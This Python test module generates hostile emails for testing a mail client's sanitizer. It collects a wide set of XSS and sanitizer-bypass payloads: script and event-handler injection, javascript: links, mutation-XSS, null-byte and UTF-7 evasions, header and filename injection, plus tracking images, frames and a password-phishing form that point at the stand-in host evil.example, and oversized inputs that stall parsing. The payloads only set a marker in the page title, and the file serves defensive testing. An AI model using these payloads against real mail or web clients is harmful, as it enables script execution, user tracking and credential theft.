"""Mail that attacks its reader: script in every field, HTML that runs, loads, frames, submits, covers or takes ages.

`ATTACK` sets a mark that a test can see; `evil.example` is where anything that leaves would go.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

MARK = "hostile-mail-has-run"
ATTACK = f"document.title='{MARK}';top.document.title='{MARK}'"
SCRIPT = f"<script>{ATTACK}</script>"
PICTURE = f'"><img src=x onerror="{ATTACK}">'
_HEAD = "Subject: {subject}\r\nFrom: {sender}\r\nMessage-ID: {message_id}\r\nMIME-Version: 1.0\r\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes
    sender: str = "evil@evil.example"
    tags: list[str] = field(default_factory=lambda: ["spam:hostile"])


def _deep(depth: int) -> str:
    return "<div>" * depth + SCRIPT + "<table><tr><td>" * (depth // 4) + "x" * 300_000


_HTML = {
    "script": SCRIPT,
    "script-in-attribute": f'<p onmouseover="{ATTACK}" onclick="{ATTACK}">x</p>'
    f'<p onfocus="{ATTACK}" tabindex=1 autofocus>x</p>',
    "image-onerror": f'<img src="x" onerror="{ATTACK}">',
    "remote-pictures": '<img src="http://evil.example/a.png"><img srcset="http://evil.example/b.png 2x">'
    '<picture><source srcset="http://evil.example/c.png"><img src="//evil.example/d.png"></picture>'
    '<table background="http://evil.example/e.png"><tr><td background="http://evil.example/f.png">x</td></tr></table>'
    '<video src="http://evil.example/g.mp4" poster="http://evil.example/h.png" autoplay></video>'
    '<audio src="http://evil.example/i.mp3" autoplay></audio><input type="image" src="http://evil.example/j.png">'
    '<link rel="stylesheet" href="http://evil.example/k.css"><link rel="prefetch" href="http://evil.example/l">'
    '<link rel="dns-prefetch" href="//evil.example"><body background="http://evil.example/m.png">',
    "style": "<style>@import url(http://evil.example/n.css);body{background:url(http://evil.example/o.png)}"
    "*{position:fixed!important;inset:0;z-index:2147483647}</style>"
    '<div style="position:fixed;inset:0;background:url(http://evil.example/p.png);z-index:99999">cover</div>'
    '<p style="background-image:image-set(\'http://evil.example/q.png\' 1x)">x</p>',
    "frames": '<iframe src="http://evil.example/r"></iframe><iframe srcdoc="' + SCRIPT + '"></iframe>'
    '<object data="http://evil.example/s"></object><embed src="http://evil.example/t">'
    '<frameset><frame src="//evil.example/u">'
    '<portal src="http://evil.example/v"></portal>',
    "forms": f'<form action="http://evil.example/w" method="post"><input name=password type=password autofocus>'
    f'<button formaction="javascript:{ATTACK}">Sign in</button></form><form id=x action=/sign-out method=post>'
    '<input type=submit></form><isindex action=http://evil.example/x><keygen autofocus onfocus=x>',
    "links": f'<a href="javascript:{ATTACK}">one</a><a href=" java\tscript:{ATTACK}">two</a>'
    f'<a href="data:text/html,{SCRIPT}">three</a><a href="http://evil.example/y" target="_top">four</a>'
    f'<a href="vbscript:x" ping="http://evil.example/z">five</a><area href="http://evil.example/aa" shape=default>'
    f'<a href="&#106;avascript:{ATTACK}">six</a><base href="http://evil.example/" target="_top">'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/bb">',
    "svg": f'<svg onload="{ATTACK}"><script>{ATTACK}</script><use href="http://evil.example/cc#x"/>'
    f'<image href="http://evil.example/dd.png"/><a xlink:href="javascript:{ATTACK}"><text>x</text></a>'
    f'<animate attributeName=href values="javascript:{ATTACK}"/>'
    '<foreignObject><iframe src=//evil.example/ee></foreignObject></svg>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ATTACK}&gt;">'
    f'<noscript><p title="</noscript><img src=x onerror={ATTACK}>"><template><img src=x onerror={ATTACK}></template>'
    f'<svg></p><style><a id="</style><img src=1 onerror={ATTACK}>"><xmp><p title="</xmp><img src=x onerror={ATTACK}>">'
    f'<select><style></select><img src=x onerror={ATTACK}></style></select>'
    f'<textarea></textarea><img src=x onerror={ATTACK}>'
    f'<img alt="</a><img src=x onerror={ATTACK}>"><a href="x"><img alt="<a href=&quot;y&quot;>"></a>',
    "comments": f"<!--><img src=x onerror={ATTACK}>--><!--[if gte mso 9]>{SCRIPT}<![endif]--><![CDATA[{SCRIPT}]]>"
    f"<?xml-stylesheet href='http://evil.example/ff'?><plaintext>{SCRIPT}",
    "null": f"<scr\0ipt>{ATTACK}</scr\0ipt><img src=x one\0rror={ATTACK}><\0script>{ATTACK}</script>",
    "dialog": f'<dialog open>covers</dialog><div popover id=p>x</div><button popovertarget=p autofocus>x</button>'
    f'<marquee onstart="{ATTACK}" behavior=alternate>x</marquee><details open ontoggle="{ATTACK}">x</details>',
    "huge": _deep(4_000),
    "wide": f'<table width=100000><tr><td colspan=1000000 rowspan=1000000>{"w" * 50_000}</td></tr></table>'
    f'<pre>{"x" * 9000}</pre>',
    "entities": "&lt;script&gt;" + "&#x3c;script&#x3e;" + ATTACK + "&#60;/script&#62;" + "&amp;" * 30_000,
}  # fmt: skip


def corpus() -> Iterator[Hostile]:
    """Every mail of them."""
    for name, html in _HTML.items():
        head = _HEAD.format(subject=f"html {name}", sender="x@evil.example", message_id="<1@evil.example>")
        yield Hostile(name, f"{head}Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n".encode())
    for name, text in (("script", SCRIPT), ("attribute", PICTURE), ("template", "{{7*7}}{% raw %}${7*7}#{7*7}")):
        head = _HEAD.format(subject=text, sender=f'"{text}" <x@evil.example>', message_id=f"<{text}@evil.example>")
        yield Hostile(
            f"fields-{name}",
            f"{head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{text}\r\n"
            f'--b\r\nContent-Type: {text}/x; name="{text}"\r\n'
            f"Content-Disposition: attachment; filename*=utf-8''{_percent(text)}\r\n\r\nx\r\n--b--\r\n".encode(),
            f'"{text}"@evil.example'.replace("\r\n", ""),
            [text, f"malware:{text}"],
        )
    encoded = "=?utf-8?q?" + "".join(f"={byte:02X}" for byte in SCRIPT.encode()) + "?="
    head = _HEAD.format(subject=encoded, sender=f"{encoded} <x@evil.example>", message_id="<2@evil.example>")
    yield Hostile("encoded-words", f"{head}\r\n\u202egpj.exe\u2066 \x1b]0;x\x07 \x00\r\n".encode())
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ATTACK}"><script>{ATTACK}</script></svg>'
    yield Hostile("svg-mail", f"Subject: svg\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n".encode())
    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{SCRIPT}</body></html>'
    yield Hostile("xhtml-mail", f"Subject: x\r\nContent-Type: application/xhtml+xml\r\n\r\n{xhtml}\r\n".encode())
    utf7 = "+ADw-script+AD4-" + ATTACK + "+ADw-/script+AD4-"
    yield Hostile("utf-7", f"Subject: x\r\nContent-Type: text/html; charset=utf-7\r\n\r\n{utf7}\r\n".encode())
    yield Hostile("no-mail", b"\xff\xfe\x00\x00" * 1000)
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(200))
    yield Hostile("nested", f"Subject: nested\r\n{nested}\r\nx\r\n".encode())


def deepest() -> Hostile:
    """As `huge`, of a size that takes seconds to clean."""
    return Hostile("deepest", f"Content-Type: text/html\r\n\r\n{_deep(20_000)}\r\n".encode())


def _percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())
